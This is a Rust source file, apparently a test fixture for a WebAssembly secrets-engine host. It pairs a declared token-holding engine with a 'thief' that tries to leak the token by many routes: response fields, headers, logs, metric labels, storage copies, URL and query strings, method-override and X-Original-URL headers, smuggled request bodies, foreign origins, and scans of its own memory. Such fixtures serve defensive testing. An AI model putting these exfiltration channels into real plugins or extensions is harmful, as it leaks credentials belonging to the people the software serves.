//! An engine that declares its secrets, and a thief that pretends to be the engine and takes them wherever it can.

use crate::bindings::exports::secrets_engine::secrets::declaration::{
    Alphabet, AnsweredField, Call, Class, Destination, RequestField, Requested, Shape, ShownField, Sibling,
    StoredField, StoredOwner,
};
use crate::bindings::secrets_engine::backend::types::{CodedError, Error, Operation, Request, Response, Secret};
use crate::bindings::secrets_engine::host::logging::{self, Level};
use crate::bindings::secrets_engine::host::storage::{self, Entry};
use crate::bindings::secrets_engine::metrics::counters;
use crate::bindings::wasi::clocks::monotonic_clock;
use crate::bindings::wasi::http::outgoing_handler::handle as send;
use crate::bindings::wasi::http::types::{Method, OutgoingBody};
use crate::{Answer, data, json_text, outgoing, result};

/// The name of both.
pub const NAME: &str = "sealed";

/// What the engine declares: tokens in `config`, which a mint makes others with.
pub fn declare() -> Vec<Class> {
    let texts = |texts: &[&str]| texts.iter().map(|&text| text.to_owned()).collect::<Vec<String>>();
    let call = |method: &str, path: &str| Call { method: method.to_owned(), path: path.to_owned() };
    let class = |name: &str| Class {
        name: name.to_owned(),
        shape: Shape {
            public: "id:{}:".to_owned(),
            alphabet: Alphabet::LowerHex,
            plain_endings: vec![],
            secret_characters_min: 16,
        },
        request_fields: vec![],
        stored_fields: vec![],
        unreadable_fields: vec![],
        answered_fields: vec![],
        bearer_of: vec![],
        shown_fields: vec![],
        becomes: vec![],
    };
    let admin = Class {
        request_fields: vec![RequestField {
            paths: texts(&["config"]),
            at: texts(&["token"]),
            destination: Destination::Requested(Requested {
                field: Some("url".to_owned()),
                stored: None,
                otherwise: None,
            }),
            owner: vec![],
        }],
        stored_fields: vec![StoredField {
            prefix: "config/".to_owned(),
            at: texts(&["token"]),
            destination: Destination::Sibling(Sibling { key: "url".to_owned(), otherwise: None }),
            owner: Some(StoredOwner::Key),
        }],
        bearer_of: vec![call("POST", "/mint"), call("GET", "/org")],
        ..class("admin-token")
    };
    let made = Class {
        answered_fields: vec![AnsweredField { call: call("POST", "/mint"), at: texts(&["made"]) }],
        shown_fields: vec![ShownField {
            paths: texts(&["mint/{name}", "lend/{name}/*"]),
            at: texts(&["result"]),
            owner: texts(&["name"]),
        }],
        ..class("made-token")
    };
    vec![admin, made]
}

/// Serves a request. `config` stores a config, `use` and `mint` send its token as they may, the rest are thefts. The
/// second segment names the config, and `~` stands for `/` in what follows.
pub fn handle(request: Request) -> Answer {
    if request.path == "config" {
        // What the request holds is stored as it is, so that a test sees what becomes of it.
        return written("config/from-request", &request.data);
    }
    let mut segments = request.path.splitn(3, '/');
    let (what, name) = (segments.next().unwrap_or_default(), segments.next().unwrap_or_default());
    let rest = segments.next().unwrap_or_default().replace('~', "/");
    let entry = read(&format!("config/{name}"));
    let token = field(&entry, "token");
    let url = field(&entry, "url");
    match what {
        "see" => backwards(&token),
        "see-spelled" => backwards(&field(&read(&format!("config/.//{name}")), "token")),
        "see-request" => backwards(&field(&request.data, "token")),
        "see-many" => {
            let found =
                storage::get_many(&[format!("config/{name}")]).map_err(|_| Error::Internal("no read".into()))?;
            let entry = found.into_iter().flatten().next().map(|entry| entry.value).unwrap_or_default();
            backwards(&String::from_utf8_lossy(&entry))
        }
        "use" => result(exchange(&Method::Get, &format!("{url}/org"), &[bearer(&token)], "")),
        "mint" => {
            let made = field(&exchange(&Method::Post, &format!("{url}/mint"), &[bearer(&token)], "{}"), "made");
            data(&format!("{{\"result\":{}}}", json_text(&made)))
        }
        // Makes a token with the config of another name than the request asks for.
        "lend" => {
            let entry = read(&format!("config/{rest}"));
            let header = bearer(&field(&entry, "token"));
            let url = field(&entry, "url");
            let made = field(&exchange(&Method::Post, &format!("{url}/mint"), &[header], "{}"), "made");
            data(&format!("{{\"result\":{}}}", json_text(&made)))
        }
        "memory" => {
            let sent = exchange(&Method::Get, &format!("{url}/org"), &[bearer(&token)], "");
            result((sent.contains("200"), occurrences(&rest)))
        }
        "end" => end(&rest, &token, &url),
        _ => steal(what, &token, &url, &rest, &request),
    }
}

/// Uses the token, makes another one, and ends in one of the ways in which an instance can. `rest` names the way and what may
/// not be in the guest's memory, backwards; an answer means that it was there, or that the instance did not end.
fn end(rest: &str, token: &str, url: &str) -> Answer {
    let mut words = rest.split(':');
    let way = words.next().unwrap_or_default();
    let made = field(&exchange(&Method::Post, &format!("{url}/mint"), &[bearer(token)], "{}"), "made");
    let found: usize = words.map(occurrences).sum();
    if found > 0 || made.is_empty() {
        return result((found, made.len()));
    }
    match way {
        "trap" => std::process::abort(),
        "sleep" => monotonic_clock::subscribe_duration(365 * 24 * 3600 * 1_000_000_000).block(),
        "memory" => loop {
            std::mem::forget(std::hint::black_box(token.repeat(1024)));
        },
        "spin" => loop {
            std::hint::black_box(token);
        },
        // The server is gone: no storage call is answered any more.
        "server" => return storage::get("gone").map(|_| None).map_err(|_| Error::Internal("no storage".to_owned())),
        _ => {}
    }
    result((token, made))
}

fn steal(what: &str, token: &str, url: &str, rest: &str, request: &Request) -> Answer {
    let secret = |internal_data: String| Secret { ttl: 0, max_ttl: 0, renewable: false, internal_data };
    let plain = || Response { data: None, warnings: vec![], secret: None, headers: vec![] };
    match what {
        "data" => data(&format!("{{\"result\":{}}}", json_text(token))),
        "part" => data(&format!("{{\"result\":{}}}", json_text(token.get(token.len() / 2..).unwrap_or_default()))),
        "warning" => Ok(Some(Response { warnings: vec![token.to_owned()], ..plain() })),
        "header" => Ok(Some(Response { headers: vec![("x".to_owned(), vec![token.to_owned()])], ..plain() })),
        "lease" => {
            let internal_data = format!("{{\"secret_type\":\"x\",\"copy\":{}}}", json_text(token));
            Ok(Some(Response { secret: Some(secret(internal_data)), ..plain() }))
        }
        "error" => Err(Error::Internal(token.to_owned())),
        "coded" => Err(Error::Coded(CodedError { code: 418, message: token.to_owned() })),
        "log" => {
            logging::log(Level::Info, "stolen", &[("token".to_owned(), token.to_owned())]);
            result("logged")
        }
        "counter" => {
            counters::add("stolen_total", "Stolen.", &[("token".to_owned(), token.to_owned())], 1);
            result("counted")
        }
        "panic" => {
            logging::log(Level::Error, &format!("panicked at {token}"), &[]);
            unreachable!("{token}")
        }
        "key" => written(&format!("copy/{token}"), "{}"),
        "copy" => written("copy/a", token),
        "field" => written("config/copy", &format!("{{\"copy\":{}}}", json_text(token))),
        "foreign" => written("config/copy", &config(token, rest)),
        "bare" => written("config/copy", &format!("{{\"token\":{token},\"url\":{}}}", json_text(rest))),
        "transaction" => {
            let Ok(Some(open)) = storage::begin() else { return result("no transaction") };
            let entry = Entry { key: "copy/a".to_owned(), value: token.as_bytes().to_vec(), seal_wrap: false };
            result((open.put(&entry).is_ok(), open.commit().is_ok()))
        }
        "url" => result(exchange(&Method::Get, &format!("{url}/{token}"), &[], "")),
        "query" => result(exchange(&Method::Get, &format!("{url}/org?{token}"), &[bearer(token)], "")),
        "other-header" => {
            result(exchange(&Method::Get, &format!("{url}/org"), &[("x-copy".to_owned(), token.into())], ""))
        }
        "other-call" => result(exchange(&Method::Get, &format!("{url}/steal"), &[bearer(token)], "")),
        // The declared call, which an upstream may take for another one.
        "other-method" => {
            let headers = [bearer(token), ("x-http-method-override".to_owned(), "DELETE".into())];
            result(exchange(&Method::Get, &format!("{url}/org"), &headers, ""))
        }
        "other-path" => {
            let headers = [bearer(token), ("x-original-url".to_owned(), "/steal".into())];
            result(exchange(&Method::Post, &format!("{url}/mint"), &headers, "{}"))
        }
        "second-call" => result(exchange(&Method::Get, &format!("{url}/org"), &[bearer(token)], "GET /steal HTTP/1.1")),
        "other-origin" => result(exchange(&Method::Get, &format!("{rest}/org"), &[bearer(token)], "")),
        "body" => result(exchange(&Method::Post, &format!("{url}/mint"), &[bearer(token)], token)),
        // The server sends what it stored with a lease, the answer that made the lease, when it renews or revokes.
        "lease-data" => backwards(&request.data),
        // What a client sends with a request is not the engine's to keep either.
        "request" if request.operation == Operation::Update => written("copy/request", &request.data),
        _ => Err(Error::UnsupportedPath),
    }
}

/// A text as no search finds it.
fn backwards(text: &str) -> Answer {
    data(&format!("{{\"result\":{}}}", json_text(&text.chars().rev().collect::<String>())))
}

fn bearer(token: &str) -> (String, Vec<u8>) {
    ("authorization".to_owned(), format!("Bearer {token}").into_bytes())
}

fn config(token: &str, url: &str) -> String {
    format!("{{\"token\":{},\"url\":{}}}", json_text(token), json_text(url))
}

fn read(key: &str) -> String {
    let found = storage::get(key).ok().flatten();
    found.map(|entry| String::from_utf8_lossy(&entry.value).into_owned()).unwrap_or_default()
}

fn written(key: &str, value: &str) -> Answer {
    let entry = Entry { key: key.to_owned(), value: value.as_bytes().to_vec(), seal_wrap: false };
    result(storage::put(&entry).is_ok())
}

/// The text of a field, where JSON has no escapes in it.
fn field(json: &str, name: &str) -> String {
    let begins = format!("\"{name}\":\"");
    let value = json.split_once(&begins).map_or("", |(_, rest)| rest);
    value.split('"').next().unwrap_or_default().to_owned()
}

/// Status and body of an answer, or what came instead.
fn exchange(method: &Method, url: &str, headers: &[(String, Vec<u8>)], text: &str) -> String {
    let request = outgoing(method, url, headers);
    let Ok(body) = request.body() else { return "no body".to_owned() };
    let future = match send(request, None) {
        Ok(future) => future,
        Err(code) => return format!("{code:?}"),
    };
    if let Ok(stream) = body.write()
        && !text.is_empty()
    {
        let _ = stream.blocking_write_and_flush(text.as_bytes());
    }
    drop(OutgoingBody::finish(body, None));
    let answer = loop {
        match future.get() {
            Some(Ok(Ok(answer))) => break answer,
            Some(Ok(Err(code))) => return format!("{code:?}"),
            Some(Err(())) => return "taken".to_owned(),
            None => future.subscribe().block(),
        }
    };
    let mut text = answer.status().to_string();
    let Ok(body) = answer.consume() else { return text };
    // The stream is a child of the body and goes first.
    if let Ok(stream) = body.stream() {
        while let Ok(chunk) = stream.blocking_read(64 * 1024) {
            text.push_str(&String::from_utf8_lossy(&chunk));
        }
    }
    text
}

/// How often a text is in the guest's memory; the text comes backwards, so that the request itself does not count.
#[cfg(target_arch = "wasm32")]
#[expect(unsafe_code, reason = "a thief reads its whole memory")]
fn occurrences(backwards: &str) -> usize {
    let backwards = backwards.as_bytes();
    let end = std::arch::wasm32::memory_size::<0>() * 65536;
    // SAFETY: all of it, from address 1 on, is this guest's memory; nothing is written meanwhile.
    let memory = unsafe { std::slice::from_raw_parts(std::ptr::dangling::<u8>(), end - 1) };
    memory.windows(backwards.len()).filter(|part| part.iter().eq(backwards.iter().rev())).count()
}

/// Only a component has such a memory.
#[cfg(not(target_arch = "wasm32"))]
fn occurrences(_: &str) -> usize {
    0
}
